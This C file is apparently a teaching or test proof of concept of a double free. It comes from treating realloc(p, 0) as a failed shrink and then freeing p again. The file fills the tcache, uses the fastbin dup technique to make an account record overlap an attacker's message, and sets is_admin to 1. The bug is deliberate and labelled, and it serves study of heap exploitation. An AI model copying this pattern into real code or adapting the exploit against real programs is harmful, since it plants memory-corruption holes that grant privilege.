/* Double free via realloc(p, 0) then free(p): glibc's realloc(p, 0) frees p and returns NULL,
 * the caller takes NULL for "failed, p unchanged" and frees p again on cleanup.
 * Published: MITRE CWE-415; "realloc(p, 0)" hazard, CERT C MEM04-C / MEM34-C (CVE-2019-11932,
 * WhatsApp double free); fastbin dup (how2heap glibc_2.36/fastbin_dup.c) turns it into
 * overlapping objects.
 * Primitive: double free -> two live objects share one chunk. */
#include <string.h>
#include "common.h"

struct account { char name[8]; int is_admin; int pad; };

int main(void) {
    test_init();
    printf("realloc(p, 0) then free(p): double free -> overlapping objects\n");
    void *fill[7];
    for (int i = 0; i < 7; i++)
        fill[i] = malloc(40);
    char *p = malloc(40), *other = malloc(40);
    for (int i = 0; i < 7; i++)
        free(fill[i]); /* tcache full: the next frees of this size go to the fastbin */
    print_ptr("victim", p);
    char *q = realloc(p, 0); /* frees p, returns NULL */
    if (!q)
        printf("shrink failed, keeping the old buffer\n");
    free(other);
    free(p); /* BUG: double free on the cleanup path */
    struct account *acct = calloc(1, 40);
    strcpy(acct->name, "bob");
    char *tmp = calloc(1, 40);
    char *msg = calloc(1, 40); /* the attacker's message */
    memcpy(msg, "mallory\0\1\0\0\0", 12);
    if (acct->is_admin == 1)
        printf("ATTACK SUCCEEDED: is_admin=1 (account and message share a chunk)\n");
    else
        printf("attack failed: is_admin=%d %p\n", acct->is_admin, (void *)tmp);
    return 0;
}
